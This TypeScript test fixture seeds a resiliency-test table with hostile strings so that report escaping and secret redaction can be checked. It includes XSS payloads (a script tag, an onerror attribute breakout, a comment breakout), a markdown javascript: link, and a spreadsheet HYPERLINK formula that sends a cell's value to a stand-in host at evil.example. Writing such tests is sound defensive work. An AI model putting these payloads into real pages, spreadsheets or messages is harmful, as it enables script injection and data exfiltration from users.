import type { Warehouse } from "../warehouse.ts";

/** Texts that would do something if they became markup, script, a formula or a link. */
export const hostileTexts = {
  script: "<script>document.title='pwned'</script>",
  attribute: `"><img src=x onerror="document.title='pwned'">`,
  comment: "--></script><script>document.title='pwned'</script>",
  formula: `=HYPERLINK("https://evil.example/?"&A1,"open")`,
  link: "[open](javascript:alert(1)) ![x](https://evil.example/x.png) @everyone",
};

const secret = "password=hunter2";

/** Texts that a report without samples must not contain. */
export const samples = { message: `${secret} in a message`, payload: `{"token": "${secret}"}` };

/** Inserts tests of application 1 in which every text of the source is hostile. */
export async function insertHostileTests({ database }: Warehouse): Promise<void> {
  const { script, attribute, comment, formula, link } = hostileTexts;
  for (const [index, text] of [script, attribute, comment, formula, link].entries()) {
    await database.query(
      `insert into resiliency.raw_resiliency_tests
        (app_id, scenario_name, start_time, end_time, duration_ms, status, error_message, fault_at,
          recovered_at, is_recovered, recovery_basis, source_system, source_run_id, raw_payload)
      select 1, $1, at, at + interval '2 hours', 7200000, case when $6 = 4 then 'passed' else 'failed' end, $2, at,
        at + interval '1 hour', true, 'measured', $3, $4, $5
      from (select '2026-01-10 08:00Z'::timestamptz + $6::int * interval '1 minute' as at) as start`,
      [text, `${text} ${samples.message}`, text, `${text} run`, samples.payload, index],
    );
  }
}
